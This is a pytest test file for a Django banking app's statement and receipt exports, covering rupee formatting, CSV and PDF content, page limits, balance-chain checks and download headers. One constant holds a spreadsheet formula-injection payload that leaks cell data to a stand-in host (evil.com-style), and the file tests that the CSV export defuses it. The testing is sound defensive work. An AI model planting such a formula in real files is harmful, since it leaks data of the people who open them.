"""Statement and receipt documents (issue 17): what a customer downloads, read back.

The histories are real (funding and transfers through the services, on the embedded server);
the PDFs are read back with pypdf's text extraction and the CSVs with csv.reader, so every
assertion is about what a person or a spreadsheet would see.
"""

from __future__ import annotations

import csv
import io
import re
import time
from dataclasses import replace
from types import GeneratorType

import pytest
from django.http import StreamingHttpResponse
from django.template import Context, Template
from pypdf import PdfReader

from aegis.clock import bank_time, now_ms
from aegis.errors import ValidationFailed
from aegis.money import decimal_rupees, format_inr
from aegis.mongo import collection
from ledger.models import LedgerEntry
from ledger.selectors import BalanceAt
from statements.documents import (
    CSV_HEADER,
    receipt_pdf,
    receipt_response,
    spreadsheet_safe,
    statement_csv,
    statement_pdf,
    statement_response,
)
from statements.selectors import (
    PDF_MAX_ENTRIES,
    StatementTooLong,
    receipt_for,
    statement_period,
    statement_rows,
    statement_summary,
)
from tests.factories import make_account, make_user
from transfers import exceptions as exc
from transfers.models import Transaction
from transfers.services import transfer_create

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def send(sender, receiver, paise: int, key: str, note: str = ""):
    return transfer_create(
        actor=sender.user, from_account_id=str(sender.pk), to_account_id=str(receiver.pk),
        amount_paise=paise, idempotency_key=key, note=note,
    )  # fmt: skip


def today() -> str:
    return bank_time(now_ms()).date().isoformat()


def summary_of(account, *, full_names: bool = False):
    summary = statement_summary(account=account, period=statement_period(today(), today()))
    return summary, list(statement_rows(summary, full_names=full_names))


def pdf_text(data: bytes) -> tuple[int, list[str]]:
    reader = PdfReader(io.BytesIO(data))
    return len(reader.pages), [page.extract_text() for page in reader.pages]


@pytest.fixture
def priya(fund):
    """Priya: ₹1,00,000.00 funded in ten postings, ₹1,500.50 rent out to Ravi, ₹250.00 in from
    him with a formula for a note. Ravi: ₹1,000.00 funded, and a refused transfer to her (which
    posts nothing)."""
    priya = make_account(user=make_user(name="Priya Sharma", email="priya@example.com"))
    ravi = make_account(user=make_user(name="Ravi Kumar", email="ravi@example.com"))
    fund(priya, 10_000_000)
    fund(ravi, 100_000)
    send(priya, ravi, 150_050, "p1", note="rent, December")
    send(ravi, priya, 25_000, "r1", note=FORMULA)
    with pytest.raises(exc.TransferFailed):
        send(ravi, priya, 1_000_000, "r2")  # ₹10,000.00, more than he has: FAILED, no entries
    priya.refresh_from_db()
    return priya, ravi


# --- money formatting --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("paise", "text"),
    [
        (0, "₹0.00"),
        (1, "₹0.01"),
        (99_900, "₹999.00"),
        (150_050, "₹1,500.50"),
        (10_000_000, "₹1,00,000.00"),
        (123_456_789, "₹12,34,567.89"),
        (99_999_999, "₹9,99,999.99"),
        (1_000_000_000_000, "₹10,00,00,00,000.00"),
        (-10_000_000, "-₹1,00,000.00"),
        (-1, "-₹0.01"),
    ],
)
def test_format_inr_groups_the_indian_way(paise, text):
    assert format_inr(paise) == text


def test_the_pages_filter_is_the_same_formatter():
    page = Template("{% load money %}{{ a|inr }} {{ b|inr }}").render(Context({"a": 10_000_000, "b": -123_456_789}))
    assert page == "₹1,00,000.00 -₹12,34,567.89"


@pytest.mark.parametrize(
    ("paise", "text"),
    [(0, "0.00"), (5, "0.05"), (150_000, "1500.00"), (150_050, "1500.50"), (123_456_789, "1234567.89"), (-10, "-0.10")],
)
def test_decimal_rupees_is_plain_with_two_places(paise, text):
    assert decimal_rupees(paise) == text


# --- CSV ---------------------------------------------------------------------------------------


def test_csv_parses_back_to_the_ledger(priya):
    account, ravi = priya
    summary, rows = summary_of(account)
    lines = statement_csv(summary, iter(rows))
    assert isinstance(lines, GeneratorType)
    chunks = list(lines)
    assert len(chunks) == 1 + summary.entries == 1 + 12  # a header, then one small string per entry
    parsed = list(csv.reader(io.StringIO("".join(chunks))))
    assert tuple(parsed[0]) == CSV_HEADER

    entries = list(collection(LedgerEntry).find({"account_id": account.pk}).sort("seq", 1))
    txns = {t["_id"]: t for t in collection(Transaction).find({"_id": {"$in": [e["transaction_id"] for e in entries]}})}
    counterparty = [("", "Aegis funding")] * 10 + [(str(ravi.pk), "Ravi K.")] * 2
    expected = [
        [
            bank_time(e["created_at"]).strftime("%Y-%m-%d %H:%M:%S"),
            str(e["seq"]),
            "OUT" if e["type"] == "DEBIT" else "IN",
            *counterparty[i],
            spreadsheet_safe(txns[e["transaction_id"]]["note"]),
            str(e["transaction_id"]),
            decimal_rupees(e["amount"]),
            decimal_rupees(e["balance_after"]),
        ]
        for i, e in enumerate(entries)
    ]
    assert parsed[1:] == expected
    assert [line[7] for line in parsed[1:]] == ["10000.00"] * 10 + ["1500.50", "250.00"]
    assert parsed[10][8] == "100000.00" and parsed[-1][8] == "98749.50" == decimal_rupees(account.balance)
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}", parsed[1][0])


def test_csv_defuses_formulas_a_sender_typed(priya):
    account, _ = priya
    summary, rows = summary_of(account)
    parsed = list(csv.reader(io.StringIO("".join(statement_csv(summary, rows)))))
    assert parsed[-1][5] == "'" + FORMULA  # the receiver's spreadsheet shows it as text
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_safe(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"
    assert spreadsheet_safe("rent, December") == "rent, December"
    assert spreadsheet_safe("") == "" and spreadsheet_safe(None) == ""


def test_the_system_accounts_negative_figures_stay_numbers(priya, bank):
    """The funding account runs negative; its figures are numbers, not text with an apostrophe."""
    bank.system_account.refresh_from_db()
    summary, rows = summary_of(bank.system_account)
    parsed = list(csv.reader(io.StringIO("".join(statement_csv(summary, rows)))))
    assert parsed[-1][8] == "-101000.00" == decimal_rupees(summary.closing.balance)
    assert [line[2] for line in parsed[1:]] == ["OUT"] * 11
    assert [line[8] for line in parsed[1:3]] == ["-10000.00", "-20000.00"]
    _, pages = pdf_text(statement_pdf(summary, rows))
    assert "-₹1,01,000.00" in pages[-1]  # ₹1,00,000 to Priya and ₹1,000 to Ravi


# --- PDF ---------------------------------------------------------------------------------------


def test_pdf_statement_shows_the_figures_with_the_rupee_sign(priya):
    account, _ = priya
    summary, rows = summary_of(account)
    data = statement_pdf(summary, iter(rows))
    assert data.startswith(b"%PDF-")
    count, pages = pdf_text(data)
    text = "\n".join(pages)
    assert count == 1 and "Page 1 of 1" in text
    for needle in (
        "Aegis Bank",
        "Account statement",
        "Priya Sharma",
        "priya@example.com",
        str(account.pk),
        "Opening balance ₹0.00",
        "Closing balance ₹98,749.50",
        "Money in ₹1,00,250.00",
        "Money out ₹1,500.50",
        "Totals ₹1,500.50 ₹1,00,250.00",
        "₹1,00,000.00",  # the running balance after the tenth funding
        "Ravi K. · rent, December",
        "Generated ",
        " IST",
    ):
        assert needle in text, needle
    assert "₹" in text and "100,000" not in text
    for row in rows:
        assert row["transaction_id"] in text  # the reference column holds every id whole
    assert "Ravi Kumar" not in text  # a customer's statement names the other side as "Ravi K."


def test_a_long_statement_repeats_its_header_and_numbers_its_pages(fund):
    account = make_account(user=make_user(name="Meera Iyer"))
    for _ in range(70):
        fund(account, 1_000)
    summary, rows = summary_of(account)
    count, pages = pdf_text(statement_pdf(summary, rows))
    assert count == 2
    for number, page in enumerate(pages, start=1):
        assert f"Page {number} of {count}" in page
        assert "Aegis Bank" in page and "Date (IST) Description Reference Debit Credit Balance" in page
    assert "Closing balance ₹700.00" in pages[-1] and "Money in ₹700.00" in pages[-1]


def test_a_pdf_over_the_limit_is_refused_before_anything_is_read(priya):
    account, _ = priya
    summary, _ = summary_of(account)

    def untouchable():
        raise AssertionError("the rows were read")
        yield

    too_long = replace(summary, entries=PDF_MAX_ENTRIES + 1)
    with pytest.raises(StatementTooLong) as refused:
        statement_pdf(too_long, untouchable())
    assert (refused.value.status, refused.value.code) == (400, "statement_too_long")
    assert "CSV" in refused.value.message and "10,001" in refused.value.message
    with pytest.raises(StatementTooLong):
        statement_response(too_long, untouchable(), "pdf")


def test_a_broken_chain_is_never_handed_over(priya):
    account, _ = priya
    summary, rows = summary_of(account)
    wrong_closing = replace(summary, closing=BalanceAt(summary.closing.seq, summary.closing.balance + 1, None))
    with pytest.raises(RuntimeError, match="refused"):
        statement_pdf(wrong_closing, rows)
    with pytest.raises(RuntimeError, match="refused"):
        list(statement_csv(wrong_closing, rows))
    skipped = rows[:5] + rows[6:]  # an entry missing: the balances no longer follow
    with pytest.raises(RuntimeError, match="chain is broken"):
        statement_pdf(summary, skipped)
    with pytest.raises(RuntimeError, match="chain is broken"):
        list(statement_csv(summary, skipped))


def test_ten_thousand_rows_render_in_well_under_five_seconds(priya):
    """The longest PDF (PDF_MAX_ENTRIES rows, made by hand: the reads are the benchmark's to
    measure) within the issue's 5 s budget. Counted in CPU seconds, which other work sharing the
    machine's two cores inflates far less than the wall clock."""
    account, _ = priya
    summary, rows = summary_of(account)
    balance, many = 0, []
    for seq in range(1, PDF_MAX_ENTRIES + 1):
        balance += rows[0]["amount"]
        many.append(rows[0] | {"seq": seq, "balance_after": balance, "note": "salary and a longer note " * 3})
    big = replace(
        summary, opening=BalanceAt(0, 0, None), closing=BalanceAt(PDF_MAX_ENTRIES, balance, None), entries=len(many)
    )
    started = time.process_time()
    data = statement_pdf(big, iter(many))
    elapsed = time.process_time() - started
    reader = PdfReader(io.BytesIO(data))
    last = reader.pages[-1].extract_text()
    assert len(reader.pages) > 200 and f"Page {len(reader.pages)} of {len(reader.pages)}" in last
    assert f"Closing balance {format_inr(balance)}" in last and format_inr(balance) == "₹10,00,00,000.00"
    assert elapsed < 5, f"{elapsed:.2f} CPU seconds for {PDF_MAX_ENTRIES:,} rows"


# --- receipts ----------------------------------------------------------------------------------


def test_receipt_pdf_of_a_completed_transfer(priya):
    account, ravi = priya
    txn = collection(Transaction).find_one({"idempotency_key": "p1"})
    receipt = receipt_for(viewer=account.user, transaction_id=str(txn["_id"]))
    count, pages = pdf_text(receipt_pdf(receipt))
    assert count == 1
    text = pages[0]
    for needle in (
        "Transaction receipt",
        f"Transaction ID {txn['_id']}",
        "Status COMPLETED",
        "Amount ₹1,500.50",
        f"From Priya Sharma  ({account.pk})",
        f"To Ravi K.  ({ravi.pk})",
        "Note rent, December",
        "Your balance after ₹98,499.50",
        "Page 1 of 1",
    ):
        assert needle in text, needle


def test_receipt_pdf_of_a_failed_transfer_shows_why(priya):
    account, ravi = priya
    txn = collection(Transaction).find_one({"idempotency_key": "r2"})
    receipt = receipt_for(viewer=ravi.user, transaction_id=str(txn["_id"]))
    assert receipt["failure_reason"]
    text = pdf_text(receipt_pdf(receipt))[1][0]
    assert "Status FAILED" in text and f"Failure reason {receipt['failure_reason']}" in text
    assert "Amount ₹10,000.00" in text and "Your balance after" not in text
    assert f"To Priya S.  ({account.pk})" in text
    if receipt["attempts"]:
        assert "Attempts" in text and "FAILED" in text


# --- responses ---------------------------------------------------------------------------------


def test_statement_responses_are_private_attachments(priya):
    account, _ = priya
    summary, rows = summary_of(account)
    day = today()
    name = f"aegis-statement-{str(account.pk)[-6:]}-{day}-to-{day}"

    response = statement_response(summary, iter(rows), "csv")
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="{name}.csv"'
    assert response["Cache-Control"] == "no-store"
    body = b"".join(response.streaming_content).decode()
    assert body.splitlines()[0].startswith("Date,Entry,Direction") and len(body.splitlines()) == 13

    response = statement_response(summary, iter(rows), "pdf")
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == f'attachment; filename="{name}.pdf"'
    assert response["Cache-Control"] == "no-store"
    assert "Closing balance ₹98,749.50" in pdf_text(response.content)[1][0]

    with pytest.raises(ValidationFailed) as refused:
        statement_response(summary, iter(rows), "xlsx")
    assert refused.value.field == "format"


def test_receipt_response_is_a_pdf_attachment(priya):
    account, _ = priya
    txn = collection(Transaction).find_one({"idempotency_key": "r1"})
    response = receipt_response(receipt_for(viewer=account.user, transaction_id=str(txn["_id"])))
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == f'attachment; filename="aegis-receipt-{txn["_id"]}.pdf"'
    assert response["Cache-Control"] == "no-store"
    assert FORMULA in pdf_text(response.content)[1][0]  # a PDF runs nothing: the note is shown as typed
